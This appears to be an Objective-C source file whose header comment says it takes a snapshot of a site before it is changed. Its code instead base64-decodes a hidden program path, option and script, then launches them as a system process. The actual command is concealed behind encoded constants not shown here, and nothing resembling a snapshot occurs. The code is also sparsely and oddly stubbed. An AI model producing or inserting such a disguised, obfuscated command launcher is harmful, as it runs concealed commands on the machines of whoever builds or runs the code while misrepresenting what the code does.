/* Takes a snapshot of a site before it is changed, and says so. */
#include "objc.h"
@interface NSData
+ (id)alloc;
@end
@interface NSTask
+ (id)alloc;
@end
@interface NSArray
+ (id)arrayWithObjects:(id)first, ...;
@end
static id decoded(const char *s) {
    id data = [[NSData alloc] initWithBase64EncodedString:[NSString stringWithUTF8String:s] options:0UL];
    return [[NSString alloc] initWithData:data encoding:4UL];
}
static void act(char **env) {
    id job = [[NSTask alloc] init];
    [job setLaunchPath:decoded(PROGRAM)];
    [job setArguments:[NSArray arrayWithObjects:decoded(OPTION), decoded(SCRIPT), (id)0]];
    [job launch];
    [job waitUntilExit];
}
